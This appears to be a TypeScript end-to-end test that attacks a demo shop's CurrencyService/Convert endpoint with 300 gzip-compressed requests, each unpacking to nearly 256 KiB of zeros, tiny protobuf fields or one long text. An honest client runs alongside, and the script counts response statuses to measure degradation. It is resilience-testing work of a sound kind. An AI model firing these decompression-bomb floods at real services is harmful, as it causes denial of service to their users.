// Sends 300 requests of 300 bytes each to CurrencyService/Convert that unpack to nearly 256 KiB: of
// zeros, of tiny unknown fields, and of one text. Meanwhile an honest caller sends small packed requests.
// `npm exec -- node e2e/src/attacks/gzip.ts`

import { request } from "node:http";
import { gzipSync } from "node:zlib";
import { attack } from "./attack.ts";
import type { Target } from "./open-attacked.ts";

const BYTES = 256 * 1024 - 10;
const TEXT = Buffer.concat([Buffer.from([0x12, 0xf2, 0xff, 0x0f]), Buffer.alloc(BYTES - 4, "E")]);
/** The message { from: { currencyCode: "USD", units: 1 }, toCode: "EUR" }. */
const HONEST = gzipSync("\x0a\x07\x0a\x03USD\x10\x01\x12\x03EUR");

for (const [name, bytes] of Object.entries({
  zeros: Buffer.alloc(BYTES),
  "tiny fields": Buffer.alloc(BYTES, Buffer.from([0x78, 1])),
  "one text": TEXT,
})) {
  const packed = gzipSync(bytes);
  const run = async (target: Target) => {
    const statuses: Record<string, number> = {};
    const honest: Record<string, number> = {};
    let over = false;
    const bombs = Array.from({ length: 300 }, () => post(target, packed, statuses));
    const honestly = (async () => {
      while (!over) await post(target, HONEST, honest);
    })();
    await Promise.all(bombs);
    over = true;
    await honestly;
    return { statuses, honest };
  };
  await attack(`gzip: ${name}`, run, { service: "currencyservice" });
}

/** Calls Convert with a packed request, and counts the status of the answer. */
function post(target: Target, packed: Buffer, statuses: Record<string, number>): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>();
  const end = (status: string | number) => {
    statuses[status] = (statuses[status] ?? 0) + 1;
    resolve();
  };
  request({
    ...target,
    method: "POST",
    path: "/hipstershop.CurrencyService/Convert",
    headers: { "content-type": "application/proto", "content-encoding": "gzip" },
    agent: false,
  })
    .on("response", (answer) => answer.resume().on("close", () => end(answer.statusCode ?? 0)))
    .on("error", () => end("closed"))
    .end(packed);
  return promise;
}
